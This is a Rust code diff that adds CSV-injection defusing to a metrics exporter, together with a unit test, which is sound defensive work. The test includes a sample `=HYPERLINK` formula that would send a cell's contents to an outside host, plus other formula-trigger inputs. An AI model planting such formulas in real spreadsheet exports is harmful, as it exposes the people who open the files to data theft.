@@ -47,7 +47,7 @@ pub(crate) fn render(used: &[Row], metrics: &Metrics, locale: crate::input::Loca
 
     let mut csv = csv::Writer::from_writer(Vec::new());
     for r in &rows {
-        csv.serialize(r).map_err(|e| format!("cannot write metrics.csv: {e}"))?;
+        csv.serialize(defused(r)).map_err(|e| format!("cannot write metrics.csv: {e}"))?;
     }
     let bytes = csv.into_inner().map_err(|e| format!("cannot write metrics.csv: {e}"))?;
     // A byte-order mark, so that Excel on Chinese Windows opens the file as UTF-8.
@@ -56,9 +56,69 @@ pub(crate) fn render(used: &[Row], metrics: &Metrics, locale: crate::input::Loca
     Ok(Data { json, csv: with_bom })
 }
 
+/// A row whose every text field a spreadsheet would take for a formula is made plain text
+/// (OWASP's "CSV injection"): a label that arrives from another office as
+/// `=HYPERLINK(…)` must not run when the office opens `metrics.csv` in Excel or WPS.
+fn defused(r: &Row) -> Row {
+    let mut r = r.clone();
+    for field in [
+        &mut r.id,
+        &mut r.label,
+        &mut r.value,
+        &mut r.unit,
+        &mut r.approx,
+        &mut r.phrase,
+        &mut r.period,
+        &mut r.period_from,
+        &mut r.period_to,
+        &mut r.source,
+        &mut r.cells,
+        &mut r.owner,
+        &mut r.note,
+        &mut r.series,
+        &mut r.change,
+        &mut r.change_amount,
+    ] {
+        *field = defuse(field);
+    }
+    r
+}
+
+/// A field as a spreadsheet must read it: one that begins with `=`, `+`, `-`, `@`, a tab or
+/// a line break gets a leading `'`, which shows it as text, unless it is a plain number
+/// (−5 stays a number a spreadsheet can add up).
+pub(crate) fn defuse(field: &str) -> String {
+    let risky = field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
+    let number = {
+        let digits = field.strip_prefix('-').unwrap_or(field);
+        let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
+        !whole.is_empty()
+            && whole.chars().all(|c| c.is_ascii_digit())
+            && !fraction.is_empty()
+            && fraction.chars().all(|c| c.is_ascii_digit())
+    };
+    if risky && !number { format!("'{field}") } else { field.to_string() }
+}
+
 /// The data files of every metric: JSON, and CSV for spreadsheets.
 #[derive(Debug)]
 pub(crate) struct Data {
     pub json: String,
     pub csv: Vec<u8>,
+}
+
+#[cfg(test)]
+mod tests {
+    use super::defuse;
+
+    #[test]
+    fn fields_a_spreadsheet_would_run_are_made_text_and_numbers_stay_numbers() {
+        assert_eq!(defuse("=HYPERLINK(\"http://x\"&A1,\"点击\")"), "'=HYPERLINK(\"http://x\"&A1,\"点击\")");
+        for risky in ["+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"] {
+            assert!(defuse(risky).starts_with('\''), "{risky:?}");
+        }
+        for plain in ["-5", "-3.95", "545", "收案", "2023: 1; 2024: 2", "a=b"] {
+            assert_eq!(defuse(plain), plain);
+        }
+    }
 }
